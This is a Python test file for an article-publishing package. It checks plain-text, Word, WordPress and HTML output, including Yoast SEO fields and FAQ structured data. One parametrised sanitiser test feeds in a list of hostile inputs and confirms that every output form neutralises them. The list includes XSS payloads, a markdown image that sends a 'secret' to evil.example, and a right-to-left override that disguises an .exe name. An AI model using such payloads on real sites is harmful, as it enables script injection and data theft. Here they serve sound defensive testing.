"""What is written besides Markdown and HTML: the same words, and nothing of a hostile source alive."""

import io
import json
import re
from collections.abc import Callable
from zipfile import ZipFile

import docx
import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from calame.contracts import Article
from calame.publish.html import json_ld, render_html
from calame.publish.plain import plain
from calame.publish.plain_text import render_text
from calame.publish.word import render_docx
from calame.publish.wordpress import post_data, render_blocks

Rewrite = Callable[[str], Article]
HOSTILE = [
    "<script>alert(1)</script>",
    "<!-- /wp:paragraph --><script>x</script>",
    'javascript:alert(1)" onmouseover="x',
    "![x](https://evil.example/p.png?q=secret)",
    "[caption]<img src=x onerror=alert(1)>[/caption]",
    "\u202egnp.exe\u202c \x1b[31mrouge\x00",
    "a & b < c > d « é »",
    "\ud800",
]


def body(article: Article) -> list[str]:
    return [plain(part.text) for section in article.draft.sections for part in section.paragraphs]


def test_plain_text_holds_every_paragraph_in_order(article: Article) -> None:
    text = render_text(article)
    places = [text.index(part) for part in body(article)]
    assert places == sorted(places)
    assert text.startswith(plain(article.draft.metadata.title) + "\n===")


def test_a_word_file_holds_headings_and_paragraphs_and_names_no_author(article: Article) -> None:
    document = docx.Document(io.BytesIO(render_docx(article)))
    told = [paragraph.text for paragraph in document.paragraphs]
    assert [text for text in told if text in set(body(article))] == body(article)
    headings = [
        paragraph.text
        for paragraph in document.paragraphs
        if paragraph.style is not None and str(paragraph.style.name).startswith("Heading")
    ]
    assert headings == [*(plain(one.heading) for one in article.draft.sections if one.heading), "Sources"]
    assert document.core_properties.author == ""
    assert document.core_properties.language == "fr"


def test_the_same_article_is_the_same_word_file(article: Article) -> None:
    assert render_docx(article) == render_docx(article)
    with ZipFile(io.BytesIO(render_docx(article))) as packed:
        assert {entry.date_time[0] for entry in packed.infolist()} == {1980}


def test_wordpress_gets_balanced_blocks_and_the_fields_of_yoast(article: Article) -> None:
    blocks = render_blocks(article)
    assert len(re.findall(r"<!-- wp:", blocks)) == len(re.findall(r"<!-- /wp:", blocks))
    data = json.loads(json.dumps(post_data(article)))
    metadata = article.draft.metadata
    assert data["meta"]["_yoast_wpseo_focuskw"] == metadata.keyphrase
    assert data["meta"]["_yoast_wpseo_metadesc"] == data["excerpt"] == metadata.meta_description
    assert data["status"] == "draft"
    assert data["content"] == blocks


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_comes_out_inert_in_every_form(saying: Rewrite, text: str) -> None:
    article = saying(text)
    blocks = render_blocks(article)
    tree = html5lib.HTMLParser(namespaceHTMLElements=False).parse(blocks)
    tags = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
    assert tags <= {"html", "head", "body", "h2", "h3", "h4", "p", "strong", "ul", "li", "a"}
    assert not any(name.startswith("on") for element in tree.iter() for name in element.attrib)
    assert all(element.attrib["href"].startswith(("http://", "https://")) for element in tree.iter("a"))
    for made in (blocks, render_text(article), json.dumps(post_data(article), ensure_ascii=False)):
        assert not re.search("[\u202a-\u202e\x1b\x00\ud800]", made)
    assert docx.Document(io.BytesIO(render_docx(article))).paragraphs


@given(st.text())
@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], max_examples=30, deadline=None
)
def test_any_text_can_be_written_in_any_form(saying: Rewrite, text: str) -> None:
    article = saying(text)
    assert render_docx(article)
    assert plain(text) in render_text(article)
    assert json.loads(json.dumps(post_data(article)))["title"] == plain(text)


def test_a_page_names_its_address_only_when_the_site_is_known(article: Article) -> None:
    slug = article.draft.metadata.slug
    assert 'rel="canonical"' not in render_html(article)
    page = render_html(article, site="https://journal.example/actu/")
    assert f'<link rel="canonical" href="https://journal.example/actu/{slug}">' in page
    told = json.dumps(json_ld(article, canonical=f"https://journal.example/{slug}"))
    assert f'"url": "https://journal.example/{slug}"' in told


def test_an_faq_is_told_to_search_engines(saying: Rewrite) -> None:
    article = saying("Qui a voté ?")
    sections = tuple(
        section.model_copy(
            update={
                "paragraphs": (
                    section.paragraphs[2],
                    section.paragraphs[0],
                )
            }
        )
        for section in article.draft.sections[:1]
    )
    told = json_ld(article.model_copy(update={"draft": article.draft.model_copy(update={"sections": sections})}))
    graph = told["@graph"]
    assert isinstance(graph, list)
    assert [part["@type"] for part in graph] == ["NewsArticle", "FAQPage"]
    assert graph[1]["mainEntity"] == [
        {
            "@type": "Question",
            "name": "Qui a voté ?",
            "acceptedAnswer": {"@type": "Answer", "text": "Qui a voté ?"},
        }
    ]
